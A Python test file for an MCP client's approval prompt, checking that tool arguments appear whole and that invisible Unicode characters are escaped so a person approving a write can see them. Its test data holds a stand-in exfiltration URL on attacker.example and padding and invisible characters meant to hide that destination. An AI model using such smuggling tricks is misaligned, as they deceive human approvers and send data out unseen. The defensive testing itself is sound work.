"""A person approves in the MCP client only arguments the question shows whole (D466), and
what does not show as itself is escaped there (D465)."""

from __future__ import annotations

from pathlib import Path

import mcp.types as types
from test_mcp_server import (
    Served,
    assert_no_traceback,
    elicitation_answers,
    meta,
    run,
    session,
)

DESTINATION = "https://attacker.example/exfil"


def test_long_arguments_are_shown_whole_or_not_asked_about(tmp_path: Path) -> None:
    served = Served(tmp_path, plugins="toolhost-demo")
    asked: list[str] = []
    approve = elicitation_answers(
        types.ElicitResult(action="accept", content={"approve": True}), asked=asked)

    async def main() -> None:
        async with session(served, elicitation_callback=approve) as s:
            # The content sorts before the destination: a cut block once hid it.
            whole = await s.call_tool("demo.external_write",
                                      {"content": "A" * 3990, "destination": DESTINATION})
            assert meta(whole, "status") == "succeeded"
            # Too long to show whole (each zero-width space is six characters escaped).
            hidden = await s.call_tool("demo.external_write",
                                       {"content": "\u200b" * 4000, "destination": DESTINATION})
            assert meta(hidden, "status") == "awaiting_approval"

    run(main)
    assert_no_traceback(served.stderr())
    assert len(asked) == 1
    assert asked[0].split("\n")[-2] == (
        '{"content":"' + "A" * 3990 + f'","destination":"{DESTINATION}"}}')
    assert [r["state"] for r in served.rows()] == ["succeeded", "awaiting_approval"]


def test_characters_that_show_as_nothing_are_escaped_in_the_question(tmp_path: Path) -> None:
    # A variation selector after an emoji spells any bytes; the grapheme joiner and the Hangul
    # filler show as nothing: Python's isprintable passes all three.
    served = Served(tmp_path, plugins="toolhost-demo")
    asked: list[str] = []
    decline = elicitation_answers(types.ElicitResult(action="decline"), asked=asked)

    async def main() -> None:
        async with session(served, elicitation_callback=decline) as s:
            await s.call_tool("demo.external_write", {
                "content": "Lunch? \U0001f600\U000e0131\ufe0f",
                "destination": "ops\u034f@\u3164example.org"})

    run(main)
    assert asked[0].split("\n")[-2] == (
        '{"content":"Lunch? \U0001f600\\udb40\\udd31\\ufe0f",'
        '"destination":"ops\\u034f@\\u3164example.org"}')
